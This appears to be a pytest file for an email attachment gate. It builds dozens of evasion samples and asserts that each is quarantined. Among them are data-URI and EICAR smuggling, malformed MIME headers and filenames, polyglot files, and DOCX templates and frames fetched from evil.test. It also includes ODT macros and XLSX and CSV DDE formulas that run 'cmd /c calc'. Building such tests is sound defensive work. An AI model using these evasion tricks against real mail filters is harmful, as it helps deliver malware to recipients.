    "data link, line ends in its scheme": b"<a href='da\r\nta:application/octet-stream;base64," + PROGRAM64 + b"'>x</a>",
    "data link, scheme spelled": b"<a href='&#100;ata:application/octet-stream;base64," + PROGRAM64 + b"'>x</a>",
    "data link, percents": b"<a href='data:application/octet-stream," + b"".join(b"%%%02x" % o for o in PROGRAM) + b"'>x</a>",
    "object of data": b"<object data='data:application/octet-stream;base64," + PROGRAM64 + b"'></object>",
    "EICAR in a comment": b"<!--" + EICAR + b"-->",
    "EICAR in base64 data": b"<img src='data:application/octet-stream;base64," + E + b"'>",
    "EICAR in base64 data of a picture": b"<img src='data:image/png;base64," + E + b"'>",
}.items():  # fmt: skip
    trick(f"body page: {name}", partial(multipart, b"Content-Type: text/html\r\n\r\n" + HTML % body))
    trick(f"body page alone: {name}", partial(mail, b"Content-Type: text/html", HTML % body))


SCRIPTED = HTML % b"<script>location='http://evil.test'</script>"
trick(
    "the page of the body attached once more",
    lambda: multipart(
        b"Content-Type: text/html\r\n\r\n" + SCRIPTED, b"Content-Type: text/html; name=a.html\r\n\r\n" + SCRIPTED
    ),
)
trick(
    "a page attached without a name",
    lambda: virus(b"Content-Type: text/html\r\nContent-Disposition: attachment\r\n" + B64, b64(SCRIPTED)),
)
trick("a page as application/xhtml+xml", lambda: virus(b"Content-Type: application/xhtml+xml\r\n" + B64, b64(SCRIPTED)))
trick("a page as text/xml", lambda: virus(b"Content-Type: text/xml\r\n" + B64, b64(SCRIPTED)))
trick(
    "a picture with script, inline",
    lambda: virus(
        b"Content-Type: image/svg+xml\r\nContent-ID: <x@y>\r\n" + B64,
        b64(b'<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>'),
    ),
)
trick("part: field name folded", lambda: virus(b"Content-Type\r\n : application/octet-stream\r\n" + B64))
trick("part: header begins with a space", lambda: virus(b" " + OCTETS + b"\r\n" + B64))
trick("part: header begins with a tab, encoding in it", lambda: virus(b"\t" + B64 + b"\r\n" + OCTETS))
trick("part: header of 100 KiB", lambda: virus(b"X: y\r\n" * 17_000 + OCTETS + b"\r\n" + B64))
trick("whole message: header of 400 KiB", lambda: b"X: y\r\n" * 70_000 + multipart(TEXT, VIRUS))
trick("uuencode: a script in a text", lambda: multipart(TEXT + b"\r\n" + uuencoded(b"a.js", SCRIPT)))
trick(
    "yEnc: a script in a text",
    lambda: multipart(
        TEXT
        + b"\r\n=ybegin line=128 size=%d name=a.js\r\n" % len(SCRIPT)
        + bytes((o + 42) % 256 for o in SCRIPT).replace(b"=", b"=}")
        + b"\r\n=yend size=%d\r\n" % len(SCRIPT)
    ),
)
trick(
    "PGP/MIME encrypted",
    lambda: multipart(
        b"Content-Type: application/pgp-encrypted\r\n\r\nVersion: 1",
        b"Content-Type: application/octet-stream; name=encrypted.asc\r\n\r\n-----BEGIN PGP MESSAGE-----\r\n\r\nhQEMA"
        + b64(bytes(90))
        + b"-----END PGP MESSAGE-----",
        kind=b"multipart/encrypted; boundary=b; protocol=application/pgp-encrypted",
    ),
)
trick(
    "S/MIME encrypted",
    lambda: mail(
        b"Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\r\n" + B64,
        b64(bytes.fromhex("3082010006092a864886f70d010703a081f2") + bytes(242)),
    ),
)
for name, header in {
    "quote never closed": b'Content-Disposition: attachment; filename="a.js',
    "pieces in capitals": b"Content-Disposition: attachment; FILENAME*0*=UTF-8'en'a%2E; FILENAME*1*=js",
    "encoded word in small letters": b'Content-Disposition: attachment; filename="=?UTF-8?b?YS5qcw?="',
    "encoded word with a space in it": b'Content-Disposition: attachment; filename="=?utf-8?q?a =2Ejs?="',
    "encoded word never closed": b'Content-Disposition: attachment; filename="=?utf-8?q?a.txt.js',
    "8-bit octets": b'Content-Disposition: attachment; filename="\xe4\xf6\xfc.js"',
    "doubled quotes": b'Content-Disposition: attachment; filename=""a.js""',
    "quote and tail": b'Content-Disposition: attachment; filename="a.txt".js',
    "extended twice": b"Content-Disposition: attachment; filename*=utf-8''a.txt; filename*=utf-8''a.js",
    "extended in an unknown charset": b"Content-Disposition: attachment; filename*=x-foo''a%2ejs",
    "extended in UTF-16": b"Content-Disposition: attachment; filename*=utf-16be''%00a%00.%00j%00s",
    "file-name": b"Content-Type: application/octet-stream; NAME=a.js",
}.items():
    trick(
        f"field of the name: {name}",
        partial(multipart, TEXT, header + b"\r\n" + B64 + b"\r\n\r\n" + b64(SCRIPT)),
    )


def zip_of_two_names(name: bytes, unicode_name: bytes) -> bytes:
    """The Info-ZIP Unicode Path field (APPNOTE 4.6.9) says another name than the header."""
    field = struct.pack("<2HBL", 0x7075, 5 + len(unicode_name), 1, zlib.crc32(name)) + unicode_name
    info = zipfile.ZipInfo(name.decode())
    info.extra = field
    octets = io.BytesIO()
    with zipfile.ZipFile(octets, "w") as archive:
        archive.writestr(info, SCRIPT)
    return octets.getvalue()


SHEET_TYPES = b'<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
for name, file, make in (
    ("zip with a Unicode name that differs", "a.zip", lambda: zip_of_two_names(b"a.txt", b"a.js")),
    ("zip with a Unicode name that hides it", "a.zip", lambda: zip_of_two_names(b"a.js", b"a.txt")),
    ("zip with an iso in it", "a.zip", lambda: zipped({"a.iso": archived("iso9660", None, {"a.txt": b"x"})})),
    (
        "message in a zip with a zip in it",
        "a.zip",
        lambda: zipped({"a.eml": message(("b.zip", zipped({"c.js": SCRIPT})))}),
    ),
    ("dwg that is a script", "a.js", lambda: b"AC10=1;" + SCRIPT),
    ("sound that is a script", "a.vbs", lambda: b"ID3=1\r\n" + SCRIPT),
    ("JPEG that is a script", "a.js", lambda: JPEG + b"*/=1;" + SCRIPT),
    ("PDF that is PowerShell", "a.ps1", lambda: PDF + b"\r\ncalc\r\n"),
    (
        "picture that is an Internet shortcut",
        "a.url",
        lambda: GIF + b"\r\n[InternetShortcut]\r\nURL=file://evil.test/a.exe\r\n",
    ),
    (
        "odt with Basic in it",
        "a.odt",
        lambda: zipped(
            {
                "mimetype": b"application/vnd.oasis.opendocument.text",
                "content.xml": b"<x/>",
                "Basic/script-lc.xml": b"<x/>",
                "Basic/Standard/Module1.xml": b'<script:module>Sub Main\nShell "calc"\nEnd Sub</script:module>',
                "META-INF/manifest.xml": b"<manifest/>",
            },
            zipfile.ZIP_STORED,
        ),
    ),
    (
        "docx with a template on a share",
        "a.docx",
        lambda: docx(more={"word/_rels/settings.xml.rels": rels(b"attachedTemplate", b"\\\\evil.test\\a.dotm")}),
    ),
    (
        "docx with a frame from elsewhere",
        "a.docx",
        lambda: docx(more={"word/_rels/webSettings.xml.rels": rels(b"frame", b"http://evil.test/a")}),
    ),
    (
        "docx with a document from elsewhere",
        "a.docx",
        lambda: docx(more={"word/_rels/document.xml.rels": rels(b"subDocument", b"http://evil.test/a")}),
    ),
    (
        "xlsx with DDE",
        "a.xlsx",
        lambda: zipped(
            {
                "[Content_Types].xml": TYPES + SHEET_TYPES + b"</Types>",
                "_rels/.rels": RELS + b"</Relationships>",
                "xl/workbook.xml": b"<workbook/>",
                "xl/externalLinks/externalLink1.xml": b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
            }
        ),
    ),
    (
        "xlsx with an Excel 4 sheet",
        "a.xlsx",
        lambda: zipped(
            {
                "[Content_Types].xml": TYPES + SHEET_TYPES + b"</Types>",
                "_rels/.rels": RELS + b"</Relationships>",
                "xl/workbook.xml": b"<workbook/>",
                "xl/macrosheets/sheet1.xml": b'<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"/>',
            }
        ),
    ),
    ("csv with DDE behind a tab", "a.csv", lambda: b"a\tb\r\n\t=cmd|'/c calc'!A0\r\n"),
    (
        "pdf with a packed file in it, in hexadecimal",
        "a.pdf",
        lambda: pdf(
            b"<</Type/Filespec/F(a.txt)/EF<</F 5 0 R>>>>",
            b"<</Type/EmbeddedFile/Filter/ASCIIHexDecode/Length %d>>stream\n%b>\nendstream"
            % (137, binascii.hexlify(EICAR)),
            catalog=b"/Names<</EmbeddedFiles<</Names[(a)4 0 R]>>>>",
        ),
    ),
    (
        "pdf with a packed file in it, in base 85",
        "a.pdf",
        lambda: pdf(
            b"<</Type/Filespec/F(a.txt)/EF<</F 5 0 R>>>>",
            b"<</Type/EmbeddedFile/Filter[/ASCII85Decode/FlateDecode]/Length %d>>stream\n%b\nendstream"
            % (len(base64.a85encode(zlib.compress(EICAR))) + 2, base64.a85encode(zlib.compress(EICAR)) + b"~>"),
            catalog=b"/Names<</EmbeddedFiles<</Names[(a)4 0 R]>>>>",
        ),
    ),
):
    trick(f"more: {name}", partial(attached, file, make))


@pytest.mark.parametrize("name", TRICKS)
def test_no_trick_gets_past_the_gate(name: str) -> None:
    assert verdict(TRICKS[name]()).kind >= Kind.QUARANTINE
